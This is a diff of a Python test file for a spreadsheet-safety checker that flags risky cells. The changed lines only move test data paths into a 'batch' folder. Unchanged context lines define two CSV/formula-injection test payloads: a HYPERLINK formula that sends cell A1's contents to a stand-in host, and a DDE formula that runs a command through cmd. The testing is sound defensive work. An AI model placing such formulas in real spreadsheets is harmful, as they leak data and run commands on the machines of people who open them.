@@ -17,7 +17,7 @@ from reports.annotate_xlsx import annotate, visible_cell
 from reports.safe_cells import csv_cell, risky
 
 ROOT = Path(__file__).resolve().parents[1]
-BUNDLE = ROOT / "data" / "003_bundle.xlsx"
+BUNDLE = ROOT / "data" / "batch" / "003_bundle.xlsx"
 HYPERLINK = '=HYPERLINK("http://x"&A1,"x")'
 DDE = "=cmd|' /C calc'!A0"
 runner = CliRunner()
@@ -122,7 +122,7 @@ def write_ods(rows: list[list[str]], path: Path) -> None:
 
 
 def test_ods_inputs_get_a_note_instead_of_a_copy(tmp_path):
-    text = (ROOT / "data" / "001_selfeval_yanchi_2024.txt").read_text(encoding="utf-8")
+    text = (ROOT / "data" / "batch" / "001_selfeval_yanchi_2024.txt").read_text(encoding="utf-8")
     src = tmp_path / "盐池.ods"
     write_ods([line.split("\t") for line in text.splitlines()], src)
     res = runner.invoke(app, ["check", str(src), "--annotate", str(tmp_path / "out"), "--format", "html",
